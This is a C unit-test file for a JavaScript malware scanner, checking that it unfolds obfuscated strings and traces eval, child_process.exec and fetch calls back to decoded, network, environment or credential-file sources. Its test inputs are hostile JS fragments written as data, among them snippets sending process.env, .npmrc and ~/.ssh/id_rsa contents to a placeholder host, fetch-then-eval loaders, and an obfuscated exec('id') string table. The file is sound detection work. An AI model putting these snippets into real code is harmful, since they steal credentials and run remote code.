#include "test.h"

#include "base/buf.h"
#include "scanner/js/fold.h"
#include "scanner/js/limits.h"

static struct js_tokens tokens;
static struct arena *arena;
static struct js_fold fold;

static void folded(const char *source)
{
	if (!arena)
		arena = arena_new(JS_MEMORY_MAX);
	arena_reset(arena);
	js_lex(&tokens, text_of(source));
	js_fold(&tokens, arena, &fold);
}

static const struct js_event *event(const char *path)
{
	for (size_t i = 0; i < fold.event_count; i++)
		if (text_eq(fold.events[i].path, text_of(path)))
			return &fold.events[i];
	return NULL;
}

static bool has_constant(const char *text)
{
	for (size_t i = 0; i < fold.constant_count; i++)
		if (text_eq(fold.constants[i].text, text_of(text)))
			return true;
	return false;
}

/* Each source spells a text in its own way. */
static void test_constants(void **state)
{
	static const struct {
		const char *source, *text;
	} rows[] = {
		{"x = 'he' + 'llo'", "hello"},
		{"x = `he${'ll'}o`", "hello"},
		{"x = ['he', 'llo'].join('')", "hello"},
		{"x = String.fromCharCode(104, 101, 108, 108, 111)", "hello"},
		{"x = String.fromCharCode(0x68, 0X65, 0x6C, 0x6c, 0x006f)", "hello"},
		{"x = 'a' + 0xfffffffffffff + 0x0_1", "a45035996273704951"},
		{"x = 'a' + 0x1fffffffffffff / 0x1fffffffffffff + 'b'", "a1b"},
		{"x = String.fromCharCode(...[104, 101, 108, 108, 111])", "hello"},
		{"x = String.fromCharCode.apply(null, [104, 101, 108, 108, 111])", "hello"},
		{"x = 'olleh'.split('').reverse().join('')", "hello"},
		{"x = [...'olleh'].reverse().join('')", "hello"},
		{"x = 'heXllo'.replace('X', '')", "hello"},
		{"x = 'hXeXlXlXo'.replace(/X/g, '')", "hello"},
		{"x = 'xxhelloxx'.slice(2, -2)", "hello"},
		{"x = 'xxhelloxx'.substr(2, 5)", "hello"},
		{"x = 'xxhelloxx'.substring(2, 7)", "hello"},
		{"x = 'HEL'.toLowerCase() + 'lo'", "hello"},
		{"x = atob('aGVsbG8=')", "hello"},
		{"x = Buffer.from('aGVsbG8', 'base64').toString()", "hello"},
		{"x = new Buffer('68656c6c6f', 'hex').toString('utf8')", "hello"},
		{"x = Buffer.from([104, 101, 108, 108, 111]).toString()", "hello"},
		{"x = 'hello' + Buffer.from([]).toString() + [].join('')", "hello"},
		{"var b = Buffer.alloc(5); for (var i = 0; i < 5; i++) b[i] = 'khoor'.charCodeAt(i) - 3; x = b.toString()", "hello"},
		{"var b = new Uint8Array(5); for (var i = 0; i < 5; i++) b[i] = 'khoor'.charCodeAt(i) - 3; x = new TextDecoder().decode(b)", "hello"},
		{"x = (function(p,a,c,k,e,d){while(c--)p=p.replace(k[c]);return p})('0',62,1,'hello'.split('|'),0,{}) + ''", "hello"},
		{"x = unescape('%68%65%6c%6c%6f')", "hello"},
		{"x = decodeURIComponent('%68%65%6c%6c%6f')", "hello"},
		{"x = '\\x68\\x65\\x6c\\x6c\\x6f'", "hello"},
		{"x = '\\u0068\\u0065\\u006c\\u006c\\u006f'", "hello"},
		{"x = [104,101,108,108,111].map(c => String.fromCharCode(c)).join('')", "hello"},
		{"x = [111,98,107,107,104].map(function (c) { return String.fromCharCode(c ^ 7) }).join('')",
		 "hello"},
		{"var s = '', k = [111,98,107,107,104]; for (var i = 0; i < k.length; i++) s += "
		 "String.fromCharCode(k[i] ^ 7); f(s + '!')",
		 "hello!"},
		{"const a = 'hel'; const b = 'lo'; x = a + b", "hello"},
		{"var t = ['hel', 'lo']; x = t[0] + t[1]", "hello"},
		{"x = 'he' + /* odd */ 'l' + // place\n'lo'", "hello"},
		{"x = 'he\\\nl' + 'lo'", "hello"},
		{"x = zlib.gunzipSync(Buffer.from('H4sIAAAAAAACA8tIzcnJBwCGphA2BQAAAA==', "
		 "'base64')).toString()",
		 "hello"},
		{"function d(s) { return Buffer.from(s, 'base64').toString() } x = d('aGVsbG8=')", "hello"},
		{"var a = b\nfunction d(s) { return Buffer.from(s, 'base64').toString() }\nx = d('aGVsbG8=')", "hello"},
		{"var a = {}\nasync function e() {}\nfunction d(s) { return atob(s) }\nx = d('aGVsbG8=')", "hello"},
		{"function d(s, k) { let o = ''; for (let i = 0; i < s.length; i++) o += "
		 "String.fromCharCode(s.charCodeAt(i) ^ k); return o } x = d('obkkh', 7)",
		 "hello"},
		{"x = 'he'.concat('l', 'lo')", "hello"},
		{"x = 'hel'.padEnd(4, 'l') + 'o'", "hello"},
		{"x = ['h','e','l','l','o'].reduce((a, c) => a + c, '')", "hello"},
		{"x = (13531).toString(36) + ''", "afv"},
	};

	(void)state;
	for (size_t i = 0; i < sizeof rows / sizeof *rows; i++) {
		folded(rows[i].source);
		if (!has_constant(rows[i].text))
			fail_msg("not folded: %s", rows[i].source);
	}
}

/* Rewritings of one call: all are the same event, and its argument comes from a decoder. */
static void test_eval_rewritings(void **state)
{
	static const char *const rows[] = {
		"eval(atob(x))",
		"(0, eval)(atob(x))",
		"globalThis['ev' + 'al'](atob(x))",
		"window['eval'](window.atob(x))",
		"const e = eval; e(atob(x))",
		"eval.call(null, atob(x))",
		"eval.apply(null, [atob(x)])",
		"Reflect.apply(eval, null, [atob(x)])",
		"Reflect.get(globalThis, 'eval')(atob(x))",
		"globalThis?.['eval']?.(atob(x))",
		"\\u0065val(at\\u006fb(x))",
		"eval /* c */ ( // d\n atob(x))",
		"self[['ev', 'al'].join('')](Buffer.from(x, 'base64').toString())",
		"var g = this || globalThis; var f = [eval]; f[0](atob(x))",
		"const o = {run: eval}; o.run(atob(x))",
		"const d = s => atob(s); eval(d(x))",
		"function d(s) { return Buffer.from(s, 'hex').toString() } eval(d(x))",
		"var c = atob(x); c = c.trim(); eval(c)",
		"const run = code => eval(code); run(atob(x))",
	};

	(void)state;
	for (size_t i = 0; i < sizeof rows / sizeof *rows; i++) {
		folded(rows[i]);
		const struct js_event *e = event("eval");
		if (!e || !e->argc || !(e->args[0].origins & JS_FROM_DECODED))
			fail_msg("not seen: %s", rows[i]);
	}
}

static void test_exec_rewritings(void **state)
{
	static const char *const rows[] = {
		"function f(require) { require('child_process').exec(x) }", /* as bundlers wrap modules */
		"plugin({factory: (r) => { const {exec} = r('node:child_process'); exec(x) }})",
		"require('child_process').exec(y)",
		"require('node:child_process').exec(y)",
		"const cp = require('child_process'); cp.exec(y)",
		"const {exec} = require('child_process'); exec(y)",
		"const {exec: run} = require('child_process'); run(y)",
		"import {exec as run} from 'child_process'; run(y)",
		"import * as cp from 'child_process'; cp.exec(y)",
		"import cp from 'node:child_process'; cp['exec'](y)",
		"require('child_' + 'process')['ex' + 'ec'](y)",
		"module.require('child_process').exec(y)",
		"process.mainModule.require('child_process').exec(y)",
		"const r = require; const m = 'child_process'; r(m).exec(y)",
		"(await import('child_process')).exec(y)",
		"import('child_process').then(cp => cp.exec(y))",
		"require(Buffer.from('6368696c645f70726f63657373', 'hex').toString()).exec(y)",
		"let cp; try { cp = require('child_process') } catch (e) {} cp.exec(y)",
		"var t = ['child_process', 'exec']; require(t[0])[t[1]](y)",
		"const e = require('util').promisify(require('child_process').exec); e(y)",
		"const cp = __importStar(require('child_process')); cp.exec(y)",
		"const x = require('child_process'); (0, x.exec)(y)",
		"const {exec} = require(hidden(3)); exec(y)",
		"const r = require(hidden(3)); r.exec(y)",
	};

	(void)state;
	for (size_t i = 0; i < sizeof rows / sizeof *rows; i++) {
		folded(rows[i]);
		if (!event("child_process.exec"))
			fail_msg("not seen: %s", rows[i]);
	}
}

/* Collected and sent: the call that sends has the origin in its argument. */
static void test_flows(void **state)
{
	static const struct {
		const char *source, *path;
		uint32_t from;
	} rows[] = {
		{"fetch(u).then(r => r.text()).then(eval)", "eval", JS_FROM_NETWORK},
		{"fetch(u).then(r => r.text()).then(t => eval(t))", "eval", JS_FROM_NETWORK},
		{"async function f() { const r = await fetch(u); eval(await r.text()) }", "eval",
		 JS_FROM_NETWORK},
		{"require('https').get(u, r => { let b = ''; r.on('data', d => b += d); r.on('end', () => "
		 "eval(b)) })",
		 "eval", JS_FROM_NETWORK},
		{"require('axios').get(u).then(r => { new Function('require', r.data)(require) })",
		 "Function", 0},
		{"const q = require('https').request(o); q.write(JSON.stringify(process.env)); q.end()",
		 "https.request().write", JS_FROM_ENV_ALL},
		{"const e = {...process.env}; fetch(u, {method: 'POST', body: JSON.stringify(e)})", "fetch",
		 JS_FROM_ENV_ALL},
		{"let s = ''; for (const k in process.env) s += k + process.env[k]; fetch(u + s)", "fetch",
		 JS_FROM_ENV_ALL},
		{"const d = Object.keys(process['env']).map(k => k + '=' + process.env[k]).join(); "
		 "require('http').get('http://h/?' + d)",
		 "http.get", JS_FROM_ENV_ALL},
		{"const t = require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'utf8'); "
		 "fetch(u, {body: t})",
		 "fetch", JS_FROM_CRED_FILE},
		{"const p = require('path'); const f = p.join(process.env.HOME, '.ss' + 'h', 'id_rsa'); "
		 "require('fs').readFile(f, (e, d) => fetch(u, {body: d.toString()}))",
		 "fetch", JS_FROM_CRED_FILE},
		{"function send(d) { fetch(u, {body: d}) } send(require('os').hostname())", "fetch",
		 JS_FROM_SYSTEM},
		{"const o = require('child_process').execSync('id'); fetch(u, {body: o})", "fetch",
		 JS_FROM_COMMAND},
		{"const c = require('crypto').createDecipheriv(a, k, i); eval(c.update(x) + c.final())",
		 "eval", JS_FROM_CRYPTO},
		/* a digit in other letters; any of a list */
		{"const d = [0]; d.push(process.env.A); let s = ''; for (let i = d.length - 1; i >= 0; i--) s += 'abc'[d[i]]; fetch(s)", "fetch",
		 JS_FROM_ENV},
		{"const toHex = (x) => 1; function toBase58(b) { return b[0] % 58 } function send(k) { fetch(u, {body: toBase58(k)}) } "
		 "function f(secretKey) { send(secretKey) } f(x)",
		 "fetch", JS_FROM_KEYS},
		{"const m = /^((?:a|b|c)+)/.exec(require('child_process').execSync('id')); fetch(u + m[1])", "fetch", JS_FROM_COMMAND},
		{"const m = /a(.b)/.exec(require('child_process').execSync('id')); fetch(u, {body: m[1]})", "fetch", JS_FROM_COMMAND},
		/* put into an object behind where it is read, and kept when only a branch replaces it */
		{"const o = {}; function run() { eval(o.text) } function got(d) { o.text = atob(d) } got(x); run()", "eval", JS_FROM_DECODED},
		{"const o = {}; o.text = atob(x); if (y) o.text = ''; eval(o.text)", "eval", JS_FROM_DECODED},
		{"bus.on('ready', (t) => eval(t)); function f(u) { bus.emit('ready', atob(u)) }", "eval", JS_FROM_DECODED},
		{"class W { constructor(s) { this.privateKey = s; fetch(s) } }", "fetch", JS_FROM_KEYS},
		{"class W { static fromMnemonic(c) { fetch(u, c.split(' ')) } }", "fetch", JS_FROM_KEYS},
		{"fetch(require('crypto').publicEncrypt(k, Buffer.from(JSON.stringify(process.env))))", "fetch", JS_FROM_ENV_ALL},
		{"const m = ['fs'].map(x => module.require ? module.require(x) : require(x)); fetch(m[0].readFileSync('.npmrc'))", "fetch", JS_FROM_CRED_FILE},
		{"fetch(u, localStorage.id)", "fetch", JS_FROM_BROWSER},
		/* modules by other ways than require */
		{"const m = eval('require')('fs'); fetch(m.readFileSync('.npmrc'))", "fetch", JS_FROM_CRED_FILE},
		{"const m = eval('require(\"fs\")'); fetch(m.readFileSync('.npmrc'))", "fetch", JS_FROM_CRED_FILE},
		{"const m = eval('module.require')('fs'); fetch(m.readFileSync('.npmrc'))", "fetch", JS_FROM_CRED_FILE},
		{"const m = module.parent.require('fs'); fetch(m.readFileSync('.npmrc'))", "fetch", JS_FROM_CRED_FILE},
		{"const m = __non_webpack_require__('fs'); fetch(m.readFileSync('.npmrc'))", "fetch", JS_FROM_CRED_FILE},
		{"const [m] = ['fs'].map(require); fetch(m.readFileSync('.npmrc'))", "fetch", JS_FROM_CRED_FILE},
		{"const m = {...require('fs')}; fetch(m.readFileSync('.npmrc'))", "fetch", JS_FROM_CRED_FILE},
		{"const m = Object.assign({}, require('fs')); fetch(m.readFileSync('.npmrc'))", "fetch", JS_FROM_CRED_FILE},
		{"function load(id) { return typeof module !== 'undefined' && module.require ? module.require(id) : null }"
		 "fetch(load('fs').readFileSync('.npmrc'))", "fetch", JS_FROM_CRED_FILE},
		{"run({code: a, title: b}); run({code: atob(x), name: c}); function run(o) { eval(o.code) }", "eval", JS_FROM_DECODED},
		{"run({title: b}); run({code: atob(x)}); function run({code: text}) { eval(text) }", "eval", JS_FROM_DECODED},
		/* a function that is given to one that has an answer for it */
		{"function ask(done) { fetch(u).then((r) => r.text()).then((t) => done(t)) } ask((t) => eval(t))", "eval", JS_FROM_NETWORK},
	};

	(void)state;
	for (size_t i = 0; i < sizeof rows / sizeof *rows; i++) {
		folded(rows[i].source);
		const struct js_event *e = event(rows[i].path);
		uint32_t from = 0;
		for (uint32_t k = 0; e && k < e->argc && k < JS_ARGS_MAX; k++)
			from |= e->args[k].origins;
		if (!e || (from & rows[i].from) != rows[i].from)
			fail_msg("not seen: %s", rows[i].source);
	}
}

/* What looks alike and is not: no such event, or none with such an origin. */
static void test_benign(void **state)
{
	static const struct {
		const char *source, *path;
		uint32_t from;
	} rows[] = {
		{"function eval2(x) { return x } eval2(atob(y))", "eval", 0},
		{"obj.evaluate(atob(x))", "eval", 0},
		{"// eval(atob(x))", "eval", 0},
		{"const s = 'eval(atob(x))'", "eval", 0},
		{"/eval(atob)/.test(x)", "eval", 0},
		{"function f(require) { require('./child_process').exec(x) }", "child_process.exec", 0},
		{"o.find('child_process').exec(x)", "child_process.exec", 0},
		{"/a/.exec(child_process)", "child_process.exec", 0},
		{"const child_process = {}; child_process.exec(x)", "child_process.exec", 0},
		{"eval(code)", "eval", JS_FROM_DECODED},
		{"const b = atob(x); render(b); eval(y)", "eval", JS_FROM_DECODED},
		{"fetch('/api', {headers: {a: process.env.TOKEN}})", "fetch", JS_FROM_ENV_ALL},
		{"const h = require('fs').readFileSync('./template.html'); fetch(u, {body: h})", "fetch",
		 JS_FROM_CRED_FILE},
		{"const m = process.env.NODE_ENV === 'production'; fetch(u, {m})", "fetch", JS_FROM_ENV_ALL},
		{"fetch(u, process['env\\0abcdefgh'])", "fetch", JS_FROM_ENV_ALL},
		{"const m = /a(b)/.test(require('child_process').execSync('id')); fetch(m)", "fetch", JS_FROM_COMMAND},
		{"const m = /^v(\\d+)\\.\\d+/.exec(require('child_process').execSync('id')); fetch(u + m[1])", "fetch", JS_FROM_COMMAND},
		{"const out = require('child_process').execSync('id'); const m = out && out.match(/ (\\d+)/); fetch(u + m[1])", "fetch", JS_FROM_COMMAND},
		{"const o = {}; o.text = atob(x); o.text = ''; eval(o.text)", "eval", JS_FROM_DECODED},
		{"const o = {}; o.other = atob(x); eval(o.text)", "eval", JS_FROM_DECODED},
		{"bus.on('ready', (t) => eval(t)); bus.emit('gone', atob(u))", "eval", JS_FROM_DECODED},
		{"bus.on('data', (t) => eval(t)); bus.emit('data', atob(u))", "eval", JS_FROM_DECODED},
		{"function ask(done) { fetch(u).then((r) => r.text()).then((t) => done('a')) } ask((t) => eval(t))", "eval", JS_FROM_NETWORK},
		{"class W { static fromMnemonic(c) { fetch(u, c.split(' ').length) } }", "fetch", JS_FROM_KEYS},
		{"const m = {...require('os'), hostname: mine}; fetch(m.hostname())", "fetch", JS_FROM_SYSTEM},
		/* what two calls give by name */
		{"run({code: a, title: atob(x)}); run({code: b, name: c}); function run(o) { eval(o.code) }", "eval", JS_FROM_DECODED},
		{"run({code: a, title: atob(x)}); run({code: b}); function run({code: text, title}) { eval(text) }", "eval", JS_FROM_DECODED},
		{"const {exec} = require('./x'); exec(y)", "child_process.exec", 0},
		{"const {find} = require(y); find(z)", "child_process.find", 0},
	};

	(void)state;
	for (size_t i = 0; i < sizeof rows / sizeof *rows; i++) {
		folded(rows[i].source);
		const struct js_event *e = event(rows[i].path);
		if (e && (!rows[i].from || (e->argc && e->args[0].origins & rows[i].from)))
			fail_msg("seen in: %s", rows[i].source);
	}
}

static void test_string_table(void **state)
{
	(void)state;
	folded("(function(_0x1a,_0x2b){const _0x3c=_0x5d,_0x4d=_0x1a();while(!![]){try{const "
	       "_0x6e=parseInt(_0x3c(0x101))/0x1+parseInt(_0x3c(0x102))/0x2;if(_0x6e===_0x2b)break;else "
	       "_0x4d['push'](_0x4d['shift']());}catch(_0x7f){_0x4d['push'](_0x4d['shift']());}}}(_0x9a,"
	       "0x10));function _0x9a(){const _0xt=['env','6x','20y','child_process','exec','id'];_0x9a="
	       "function(){return _0xt;};return _0x9a();}function _0x5d(_0xi,_0xj){const _0xk=_0x9a();"
	       "return _0x5d=function(_0xl,_0xm){_0xl=_0xl-0x101;let _0xn=_0xk[_0xl];return _0xn;},"
	       "_0x5d(_0xi,_0xj);}const _0xz=_0x5d;require(_0xz(0x103))[_0xz(0x104)](_0xz(0x105));");
	assert_true(fold.coded_names);
	const struct js_event *e = event("child_process.exec");
	assert_non_null(e);
	assert_text(e ? e->args[0].text : text_of(""), "id");
}

/* Twice the hostile input costs at most a little more than twice the work. */
static uint64_t cost(const char *head, const char *part, const char *tail, size_t times)
{
	struct buf b = BUF((size_t)64 << 20);

	buf_text(&b, text_of(head));
	for (size_t i = 0; i < times; i++)
		buf_text(&b, text_of(part));
	buf_text(&b, text_of(tail));
	folded(buf_cstr(&b));
	buf_free(&b);
	return tokens.steps + fold.steps;
}

static void test_linear(void **state)
{
	static const char *const parts[] = {
		"(", "[", "{", "`${", "((", "a(", "function(){", "x=>", "!", "a?b:", "if(a)",
		"'", "\"", "\\", "/", "/a/", "`", "a+", "a.b.", "'a'+", "f(", ")", "}", "${", "{a:",
		"new ", "for(;;)", "try{", "s+='abc';", "var a=b,", "abcdefghijklmnop", "<!--", "/*",
		"function a(){a()}", "a=[a,a];", "while(1){", "x=x+x;", "\\u0061", "case 1:", "\xe2\x80\xa8",
		"export{", "import a ", "class a{", "async ", "...", "?.", "=", "a=>{", "x='a'+x;",
	};

	(void)state;
	for (size_t i = 0; i < sizeof parts / sizeof *parts; i++) {
		uint64_t one = cost("s='';x='a';", parts[i], "", 4000),
			 two = cost("s='';x='a';", parts[i], "", 8000);
		if (two > one * 5 / 2 + 2000)
			fail_msg("%s: %llu, doubled %llu", parts[i], (unsigned long long)one,
				 (unsigned long long)two);
	}
}

/* Ceilings: inside nothing is lost, outside it is said. */
static void test_budget(void **state)
{
	(void)state;
	folded("x = 'ab'.repeat(1000)");
	assert_false(fold.truncated);
	folded("x = 'ab'.repeat(16384)"); /* JS_REPEAT_MAX ... */
	assert_int_equal(fold.folded_bytes, JS_REPEAT_MAX);
	folded("x = 'ab'.repeat(16385)"); /* ... and past it: unknown, which is no loss to tell of */
	assert_int_equal(fold.folded_bytes, 0);
	assert_false(fold.truncated);
	folded("x = 'ab'.repeat(100000000)");
	assert_true(fold.folded_bytes <= JS_FOLD_FLOOR);
	folded("x = 'a'; for (;;) x += x;");
	assert_true(fold.folded_bytes <= JS_FOLD_FLOOR);
}

static void test_names(void **state)
{
	char out[64];

	(void)state;
	js_how how = js_how_add(js_how_add(js_how_add(0, JS_HOW_CONCAT), JS_HOW_BASE64), JS_HOW_INFLATE);
	assert_string_equal(fold_how_name(how, out, sizeof out), "concat+base64+inflate");
	assert_true(js_how_has(how, JS_HOW_BASE64));
	assert_false(js_how_has(how, JS_HOW_HEX));
	assert_string_equal(fold_origin_name(JS_FROM_ENV | JS_FROM_NETWORK, out, sizeof out),
			    "env+network");
	assert_string_equal(fold_how_name(how, out, 8), "concat+");
}

/* What was a getter or a setter may be anything else by the next line. */
static void test_accessors_replaced(void **state)
{
	static const char *const sources[] = {
		"const o = {get x() { return 1 }, ...{x: 'https://a.example/'}}; fetch(o.x)",
		"const o = {get x() { return 1 }}; Object.assign(o, {x: 'https://a.example/'}); fetch(o.x)",
		"const o = {get x() { return 1 }, x: 'https://a.example/'}; fetch(o.x)",
	};

	(void)state;
	for (size_t i = 0; i < sizeof sources / sizeof *sources; i++) {
		folded(sources[i]);
		const struct js_event *e = event("fetch");
		assert_true(e && text_eq(e->args[0].text, T("https://a.example/")));
	}
	folded("const o = {set x(v) { fetch(v) }}; o['=x'] = 4; o.x = 'https://a.example/'");
	assert_non_null(event("fetch"));
}

/* The globals that a function is called with where it stands. */
static void test_called_at_once(void **state)
{
	static const char *const sources[] = {
		"(function (w, d) { d.createElement('script').src = w.atob('aGVsbG8=') })(window, document)",
		"!function (w, d) { d.createElement('script').src = w.atob('aGVsbG8=') }(window, document)",
		"((w, d) => { d.createElement('script').src = w.atob('aGVsbG8=') })(window, document)",
	};

	(void)state;
	for (size_t i = 0; i < sizeof sources / sizeof *sources; i++) {
		folded(sources[i]);
		const struct js_event *e = event("document.createElement().src");
		assert_true(e && text_eq(e->args[0].text, T("hello")));
	}
	folded("(function (w, d) { d.createElement('script') })(1, document.x)");
	assert_null(event("document.createElement"));
	folded("(function (w, d) { d.createElement('script') })(window, document");
	folded("(function (w, d) { d.createElement('script') })(");
	folded("(function (a, b, c, d, e) { e.createElement('script') })(window, window, window, window, document)");
	assert_null(event("document.createElement"));
}

/* What one call gives a function is not what another call gets back; what is neither of its own nor of its call stays. */
static void test_each_call(void **state)
{
	static const struct {
		const char *source;
		bool decoded; /* what eval is given */
	} rows[] = {
		{"function f(a) { return 'x/' + a } f(atob(b)); eval(f(c))", false},
		{"function f(a) { return 'x/' + a } f(c); eval(f(atob(b)))", true},
		{"const f = a => 'x/' + a; f(atob(b)); eval(f(c))", false},
		{"const f = a => 'x/' + a; f(c); eval(f(atob(b)))", true},
		{"function f(a) { const d = 'x/' + a, e = d + '/'; return e } f(atob(b)); eval(f(c))", false},
		{"function f(a) { const d = 'x/' + a, e = d + '/'; return e } f(c); eval(f(atob(b)))", true},
		{"function f(...a) { return p.join(...a) } var p = require('path'); f(atob(b)); eval(f(c))", false},
		{"function f(...a) { return p.join(...a) } var p = require('path'); f(c); eval(f(atob(b)))", true},
		{"function g(a) { return a + '/' } function f(a) { return g(a) } f(atob(b)); eval(f(c))", false},
		{"function g(a) { return a + '/' } function f(a) { return g(a) } f(c); eval(f(atob(b)))", true},
		/* of its own */
		{"function f(a) { return atob(k) + a } f(atob(b)); eval(f(c))", true},
		{"function f(a) { const d = atob(k); return d + a } f(atob(b)); eval(f(c))", true},
		{"function f(a) { let d = 'x' + a; d = atob(k); return d + a } f(atob(b)); eval(f(c))", true},
		{"function f(...a) { a[0] = atob(k); return a.join('') } f(atob(b)); eval(f(c))", true},
		{"function f(u) { u.searchParams.set('k', atob(k)); return u } f(atob(b)); eval(f(c))", true},
		/* given otherwise than by a call that it returns to */
		{"function f(a) { return a.trim() } f(atob(b)); eval(f(c))", false},
		{"function f(a) { return a.trim() } f(c); eval(f(atob(b)))", true},
		{"function f(a) { return a.trim() } f(atob(b)); const g = f.bind(null, atob(d)); eval(g())", true},
		/* what it keeps, from one call to the next */
		{"var k = ''; function f(a) { return k += a } f(atob(b)); eval(f(c))", true},
		{"var k = []; function f(a) { return k.push(a), k.join('') } f(atob(b)); eval(f(c))", true},
		{"function f(a, n) { if (!n) return a; return f(a + atob(n), n - 1) } f(atob(b), 2); eval(f(c, 3))", true},
	};

	(void)state;
	for (size_t i = 0; i < sizeof rows / sizeof *rows; i++) {
		folded(rows[i].source);
		const struct js_event *e = event("eval");
		if (!e || !!(e->args[0].origins & JS_FROM_DECODED) != rows[i].decoded)
			fail_msg("%s", rows[i].source);
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_constants),	cmocka_unit_test(test_eval_rewritings),
		cmocka_unit_test(test_exec_rewritings), cmocka_unit_test(test_flows),
		cmocka_unit_test(test_benign),		cmocka_unit_test(test_string_table),
		cmocka_unit_test(test_linear),		cmocka_unit_test(test_budget),
		cmocka_unit_test(test_names),		cmocka_unit_test(test_accessors_replaced),
		cmocka_unit_test(test_called_at_once),	cmocka_unit_test(test_each_call),
	};

	int failed = cmocka_run_group_tests(tests, NULL, NULL);
	arena_free(arena);
	js_tokens_free(&tokens);
	return failed;
}
